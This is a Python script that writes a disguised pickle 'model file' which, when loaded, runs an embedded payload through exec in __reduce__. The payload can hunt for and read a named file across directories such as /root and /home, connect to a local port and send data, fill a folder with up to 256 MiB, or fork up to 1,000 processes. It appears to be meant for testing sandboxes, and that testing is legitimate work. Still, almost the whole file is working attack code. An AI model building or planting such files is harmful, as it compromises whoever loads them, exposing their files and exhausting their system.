# SPDX-License-Identifier: Apache-2.0
"""Make a model file that attacks whoever loads it:
hostile.py MODEL.pkl ATTACK [TARGET]

The attack happens while the file is unpickled, before any "model" exists. Each
says in one line what it got and ends with status SUCCEEDED or FAILED; but that
is only what it says. Who runs it judges by what the host itself saw.

  read CANARY    search for this file, there and wherever it may hide
  connect PORT   call this TCP port on the machine's loopback addresses
  fill FOLDER    write to this folder until there is no more room
  fork           start processes until the system refuses

They are bounded so that a mistake outside a virtual machine hurts nobody: at
most 256 MiB are written and 1,000 processes started.
"""

import pickle
import sys

# What runs at the victim's. Text, because a pickle carries no code objects; the
# names attack and target come with it.
PAYLOAD = r'''
import os, socket, sys, time

SUCCEEDED, FAILED = 10, 11


def hiding_places(path):
    yield path
    for top in ("/root", "/home", "/mnt", "/media", "/srv", "/tmp", "/var/tmp",
                "/run", "/proc/1/root/tmp", "/proc/1/cwd"):
        for folder, _, files in os.walk(top):
            if os.path.basename(path) in files:
                yield os.path.join(folder, os.path.basename(path))


def attack_read():
    for place in hiding_places(target):
        try:
            with open(place) as file:
                return SUCCEEDED, "read " + file.read(200)
        except OSError as error:
            last = error.strerror
    return FAILED, "found no such file (%s)" % last


def attack_connect():
    port = int(target)
    for family, host in ((socket.AF_INET, "127.0.0.1"),
                         (socket.AF_INET6, "::1")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as link:
                link.settimeout(3)
                link.connect((host, port))
                link.sendall(b"stolen goods")
                return SUCCEEDED, "reached %s port %d" % (host, port)
        except OSError as error:
            last = error.strerror or str(error)
    return FAILED, "no connection (%s)" % last


def attack_fill():
    folder, block, written = target, b"x" * 65536, 0
    try:
        os.makedirs(folder, exist_ok=True)
    except OSError:
        folder = os.getcwd()
    try:
        with open(os.path.join(folder, "filling"), "wb", 0) as file:
            while written < 256 << 20:
                file.write(block)
                written += len(block)
                if written % (4 << 20) == 0:
                    os.fsync(file.fileno())
    except OSError as error:
        return SUCCEEDED, "full after %d MiB (%s)" % (written >> 20,
                                                      error.strerror)
    return FAILED, "wrote %d MiB and gave up" % (written >> 20)


def attack_fork():
    count = 0
    try:
        while count < 1000:
            if os.fork() == 0:
                os.closerange(0, 3)  # nobody shall wait for our output
                time.sleep(20)
                os._exit(0)
            count += 1
    except OSError as error:
        time.sleep(3)
        return SUCCEEDED, "%d processes (%s)" % (count, error.strerror)
    return FAILED, "%d processes and gave up" % count


status, text = {"read": attack_read, "connect": attack_connect,
                "fill": attack_fill, "fork": attack_fork}[attack]()
print("attack %s: %s" % (attack, text), flush=True)
os._exit(status)
'''


ATTACKS = ("read", "connect", "fill", "fork")


class Weights:
    """Looks like a model in a listing; unpickling it calls exec."""

    def __init__(self, attack, target):
        self.names = {"attack": attack, "target": target}

    def __reduce__(self):
        return exec, (PAYLOAD, self.names)


def main():
    if len(sys.argv) not in (3, 4) or sys.argv[2] not in ATTACKS:
        sys.exit("usage: hostile.py MODEL.pkl ATTACK [TARGET]; ATTACK is " +
                 ", ".join(ATTACKS))
    hidden = Weights(sys.argv[2], sys.argv[3] if len(sys.argv) == 4 else "")
    with open(sys.argv[1], "wb") as file:
        pickle.dump({"hidden": hidden, "output": 0}, file)


if __name__ == "__main__":
    main()
